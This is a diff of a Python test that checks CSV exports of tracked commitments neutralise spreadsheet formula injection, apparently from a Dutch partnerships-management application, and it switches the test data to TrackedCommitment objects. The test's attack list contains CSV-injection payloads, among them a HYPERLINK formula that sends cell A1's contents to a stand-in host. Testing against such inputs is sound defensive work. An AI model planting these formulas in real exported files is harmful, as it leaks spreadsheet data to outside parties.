@@ -19,6 +19,7 @@ from partnerships.domain.context import LOCAL_USER, UserContext
 from partnerships.domain.decisions import DecisionError, DecisionRecord
 from partnerships.domain.risks import Risk, RiskError
 from partnerships.services import accounts, audit, commitments, decisions, risks, tokens
+from partnerships.services.commitments import TrackedCommitment
 from partnerships.services.knowledge_base import KnowledgeBase
 from partnerships.services.spreadsheets import neutralise
 from partnerships.web.app import create_app
@@ -245,8 +246,10 @@ ATTACKS = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik")', "+1+2", "-2+3",
 
 
 def test_export_cells_never_start_a_formula() -> None:
-    items = [{"sleutel": "k", "status": "open", "uiterlijk": None, "verantwoordelijk": a,
-              "tekst": a, "document": None, "vervuldDoor": None, "toelichting": a}
+    items = [TrackedCommitment(key="k", text=a, kind="handmatig", manual=True, status="open",
+                               due=None, due_text=None, responsible=a, promiser=None,
+                               subject=None, note=a, letter=None, start=None,
+                               fulfilled_by=None, proposals=())
              for a in ATTACKS]  # fmt: skip
     text = commitments.export(items, "csv").decode("utf-8-sig")
     import csv
